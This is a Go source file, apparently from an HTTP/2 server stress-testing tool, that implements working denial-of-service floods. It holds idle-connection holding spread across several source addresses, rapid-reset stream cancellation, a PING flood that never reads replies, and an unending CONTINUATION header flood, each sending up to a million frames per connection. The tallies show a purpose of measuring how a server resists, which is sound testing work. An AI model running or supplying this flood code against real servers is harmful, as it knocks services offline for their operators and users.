package storm

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"net"
	"sync"
	"sync/atomic"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// maxFlood frames of one connection are enough: a server that does not mind them will not mind more.
const maxFlood = 1_000_000

// idleConnections: clients that connect, say that they speak HTTP/2, and nothing more. They come from several addresses: from
// one they could not take all the connections that there are.
func idleConnections(ctx context.Context, r *run) ([]*tally, error) {
	t := r.tally("idle")
	var held, closed atomic.Int64
	var wg sync.WaitGroup
	for i := range r.o.Idle {
		if r.offer.Err() != nil {
			break
		}
		t.offered.Add(1)
		nc, err := dialFrom(r.offer, r.o.Target, crowdFrom[i%len(crowdFrom)], false)
		if err != nil {
			t.turnedAway("not connected", "")
			continue
		}
		wg.Go(func() {
			defer nc.Close()
			held.Add(1)
			if r.idle(nc) {
				closed.Add(1)
			}
		})
	}
	wg.Wait()
	t.note(fmt.Sprintf("%d connected, %d of them were closed by the server", held.Load(), closed.Load()))
	return []*tally{t}, ctx.Err()
}

// idle holds nc until the offer is over; true if the server closed it before.
func (r *run) idle(nc net.Conn) (closed bool) {
	deadline, _ := r.offer.Deadline()
	nc.SetDeadline(deadline)
	if _, err := nc.Write([]byte(http2.ClientPreface + "\x00\x00\x00\x04\x00\x00\x00\x00\x00")); err != nil {
		return true
	}
	var buf [512]byte
	for {
		_, err := nc.Read(buf[:])
		var timeout net.Error
		if errors.As(err, &timeout) && timeout.Timeout() {
			return false
		}
		if err != nil {
			return true
		}
	}
}

// rapidReset: calls that are cancelled in the same breath, which a server may have begun work for.
func rapidReset(ctx context.Context, r *run) ([]*tally, error) {
	t := r.tally("rapid-reset")
	r.flood(ctx, t, true, func(c *rawConn) error {
		s, err := c.open(methodRead)
		if err != nil {
			return err
		}
		c.wmu.Lock()
		err = c.fr.WriteRSTStream(s.id, http2.ErrCodeCancel)
		c.wmu.Unlock()
		c.forget(s)
		return err
	})
	return []*tally{t}, ctx.Err()
}

// forget drops a stream that this side has reset.
func (c *rawConn) forget(s *rawStream) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if _, open := c.mu.streams[s.id]; open {
		delete(c.mu.streams, s.id)
		c.tally.open.Add(-1)
	}
}

// pingFlood: a client that sends PING and never reads, so that the answers pile up on the server's side.
func pingFlood(ctx context.Context, r *run) ([]*tally, error) {
	t := r.tally("ping-flood")
	r.flood(ctx, t, false, func(c *rawConn) error {
		t.offered.Add(1)
		c.wmu.Lock()
		defer c.wmu.Unlock()
		return c.fr.WritePing(false, [8]byte{'s', 't', 'o', 'r', 'm'})
	})
	return []*tally{t}, ctx.Err()
}

// headerFlood: a header block that never ends.
func headerFlood(ctx context.Context, r *run) ([]*tally, error) {
	t := r.tally("header-flood")
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	for i := range 64 {
		enc.WriteField(hpack.HeaderField{Name: fmt.Sprintf("x-storm-%d", i), Value: fmt.Sprintf("%064d", i)})
	}
	r.flood(ctx, t, true, func(c *rawConn) error {
		t.offered.Add(1)
		c.wmu.Lock()
		defer c.wmu.Unlock()
		if c.nextID == 1 {
			c.nextID += 2
			return c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block.Bytes()})
		}
		return c.fr.WriteContinuation(1, false, block.Bytes())
	})
	return []*tally{t}, ctx.Err()
}

// flood repeats one on each connection until the server cuts it, the count is reached or the offer is over.
func (r *run) flood(ctx context.Context, t *tally, reads bool, one func(*rawConn) error) {
	var wg sync.WaitGroup
	var cut, survived atomic.Int64
	for range r.o.Connections {
		wg.Go(func() {
			c, err := dialRaw(ctx, &r.o, t, 65535)
			if err != nil {
				t.turnedAway("not connected", err.Error())
				return
			}
			if reads {
				err = c.read(r.offer)
			}
			deadline, _ := r.offer.Deadline()
			c.nc.SetWriteDeadline(deadline)
			for n := 0; err == nil && n < maxFlood && r.offer.Err() == nil; n++ {
				err = errors.Join(one(c), c.failure())
			}
			err = errors.Join(err, c.flush())
			if err != nil && r.offer.Err() == nil {
				cut.Add(1)
			} else {
				survived.Add(1)
			}
			c.close(reads)
		})
	}
	wg.Wait()
	t.note(fmt.Sprintf("%d connections were cut by the server, %d lived until the end", cut.Load(), survived.Load()))
}
